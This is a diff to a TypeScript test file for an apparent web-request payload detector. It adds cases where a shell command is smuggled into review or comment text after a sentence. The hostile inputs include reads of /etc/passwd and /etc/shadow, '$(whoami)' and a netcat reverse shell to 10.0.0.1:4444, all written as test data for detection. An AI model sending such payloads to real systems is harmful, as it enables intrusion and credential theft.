@@ -412,6 +412,29 @@ const NOT_COMMAND_INJECTION: Case[] = [
   ["query", "dt=Example+News+%7C+Net+income&sid=1"],
 ];
 
+// The same after a sentence of prose (cmdinject.ts commandAfterSentence): a shell reads the
+// sentences before it as the first command's arguments.
+const COMMAND_AFTER_SENTENCE: Case[] = [
+  ["body:json", JSON.stringify({ review: "Arrived early. ;cat /etc/passwd Would buy again." })],
+  ["query", "q=Great+service,+fast+delivery!+|+nc+-e+/bin/sh+10.0.0.1+4444"],
+  ["body:form", "comment=Thanks+for+the+help.+8.8.8.8%3Bid"],
+  ["body:json", JSON.stringify({ t: "Is this right? $(whoami)" })],
+  ["body:json", JSON.stringify({ t: "Nice shop.   && ls -l /home" })],
+  ["body:json", JSON.stringify({ t: "See the attached. 127.0.0.1; cat /etc/shadow" })],
+];
+const NOT_COMMAND_AFTER_SENTENCE: Case[] = [
+  // Inside a sentence, or words that a command's name also is, followed by prose.
+  ["body:json", JSON.stringify({ t: "run `git log --oneline | head -5` to see the last ones" })],
+  ["body:json", JSON.stringify({ t: "Really. & more info. Done. | head of sales. Sure. | sort by date" })],
+  ["body:json", JSON.stringify({ t: "Noted. ; echo was heard. Hmm. | tee time at 5. ok. | less is more" })],
+  // Smileys and prices, and inline code after a sentence (no backquote opens one).
+  ["body:json", JSON.stringify({ t: "Read the docs. ;) Thanks. Wow. ;-) It costs a lot. $25 is too much." })],
+  ["body:json", JSON.stringify({ t: "Done! `npm test` passes now. Then `cat package.json` shows it." })],
+  // No word before the stop: an ellipsis, a version.
+  ["body:json", JSON.stringify({ t: "wait... ;cat /etc/passwd" })],
+  ["body:json", JSON.stringify({ t: "release 1.2. | nc -l 80" })],
+];
+
 // PHP code reading a superglobal (phpglobals.ts).
 const PHP_SUPERGLOBAL: Case[] = [
   ["query", "x=$_SERVER['HTTP_HOST']"],
@@ -459,6 +482,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["event-handler", "xss", EVENT_HANDLER, NOT_EVENT_HANDLER],
   ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
   ["command-injection", "rce", COMMAND_INJECTION, NOT_COMMAND_INJECTION],
+  ["command-after-sentence", "rce", COMMAND_AFTER_SENTENCE, NOT_COMMAND_AFTER_SENTENCE],
   ["sql-injection", "sqli", SQLI, NOT_SQLI],
   ["stacked-query", "sqli", STACKED_SQLI, NOT_STACKED_SQLI],
   ["probe-call", "sqli", PROBE_SQLI, NOT_PROBE_SQLI],
